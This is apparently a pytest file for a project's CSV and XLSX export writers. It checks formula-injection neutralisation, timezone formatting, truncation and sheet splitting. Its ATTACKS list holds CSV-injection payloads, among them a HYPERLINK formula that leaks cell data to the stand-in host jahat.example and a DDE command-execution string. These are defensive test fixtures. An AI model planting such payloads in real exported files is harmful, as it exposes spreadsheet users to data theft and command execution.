from __future__ import annotations

import csv
import datetime as dt

import pytest
from openpyxl import load_workbook

from netra.exports import writers
from netra.exports.writers import neutralise, write_csv, write_table, write_xlsx

HEADER = ["id", "teks", "waktu", "terlambat"]
ATTACKS = [
    '=HYPERLINK("http://jahat.example/?"&A1,"klik")',
    "+62 812 3456",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "  =cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_triggers_get_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Ayo dukung BARA", "nomor 2", "", "a=b", "surel@contoh.id"])
def test_ordinary_text_is_untouched(text):
    assert neutralise(text) == text


def test_control_characters_are_dropped():
    assert neutralise("a\x00b\x07c\nd") == "ab" + "c\nd"


def test_csv_has_bom_and_neutralised_cells(tmp_path):
    path = tmp_path / "x.csv"
    when = dt.datetime(2024, 10, 10, 2, 0, tzinfo=dt.UTC)
    rows = [[1, text, when, True] for text in ATTACKS] + [[2, "Sri Wahyuni — guru", None, False]]
    assert write_csv(path, HEADER, rows) == len(ATTACKS) + 1
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        data = list(csv.reader(handle))
    assert data[0] == HEADER
    assert [r[1] for r in data[1:-1]] == ["'" + t for t in ATTACKS]
    assert data[1][2] == "2024-10-10 09:00"  # Asia/Jakarta
    assert data[1][3] == "ya"
    assert data[-1] == ["2", "Sri Wahyuni — guru", "", "tidak"]


def test_negative_numbers_stay_numbers(tmp_path):
    path = tmp_path / "x.csv"
    write_csv(path, ["n"], [[-5]])
    assert path.read_text(encoding="utf-8-sig").splitlines()[1] == "-5"


def test_xlsx_reads_back_with_text_not_formulas(tmp_path):
    path = tmp_path / "x.xlsx"
    when = dt.datetime(2024, 10, 10, 2, 0, tzinfo=dt.UTC)
    rows = [[i, text, when, False] for i, text in enumerate(ATTACKS)]
    rows.append([99, "kendali\x01tak sah dan emoji 😉", None, True])
    assert write_xlsx(path, HEADER, rows, title="Temuan", widths=[8, 40, 17, 10]) == len(rows)
    sheet = load_workbook(path)["Temuan"]
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == HEADER
    for row, text in zip(values[1:], ATTACKS, strict=False):
        assert row[1] == "'" + text
    cells = list(sheet.iter_rows(min_row=2, max_row=len(ATTACKS) + 1))
    assert all(row[1].data_type == "s" for row in cells)
    assert values[1][2] == dt.datetime(2024, 10, 10, 9, 0)
    assert values[-1] == (99, "kendalitak sah dan emoji 😉", None, "ya")


def test_xlsx_long_cell_is_cut_with_a_note(tmp_path):
    path = tmp_path / "x.xlsx"
    write_xlsx(path, ["teks"], [["x" * 40_000]])
    value = load_workbook(path).active["A2"].value
    assert len(value) == writers.XLSX_MAX_CELL
    assert value.endswith(writers.TRUNCATED)


def test_xlsx_rows_continue_on_a_new_sheet(tmp_path, monkeypatch):
    monkeypatch.setattr(writers, "XLSX_MAX_ROWS", 4)  # header + 3 rows per sheet
    path = tmp_path / "x.xlsx"
    assert write_xlsx(path, ["n"], ([i] for i in range(7)), title="Temuan") == 7
    book = load_workbook(path)
    assert book.sheetnames == ["Temuan", "Temuan (2)", "Temuan (3)"]
    assert [r[0] for r in book["Temuan (2)"].iter_rows(values_only=True)] == ["n", 3, 4, 5]


def test_empty_xlsx_still_has_a_header(tmp_path):
    path = tmp_path / "x.xlsx"
    assert write_xlsx(path, HEADER, []) == 0
    assert list(load_workbook(path).active.iter_rows(values_only=True)) == [tuple(HEADER)]


def test_progress_is_reported(tmp_path, monkeypatch):
    monkeypatch.setattr(writers, "PROGRESS_EVERY", 2)
    seen = []
    write_table(tmp_path / "x.csv", "csv", ["n"], ([i] for i in range(5)), progress=seen.append)
    assert seen == [2, 4, 5]


def test_unknown_format_is_refused(tmp_path):
    with pytest.raises(ValueError):
        write_table(tmp_path / "x.ods", "ods", ["n"], [])
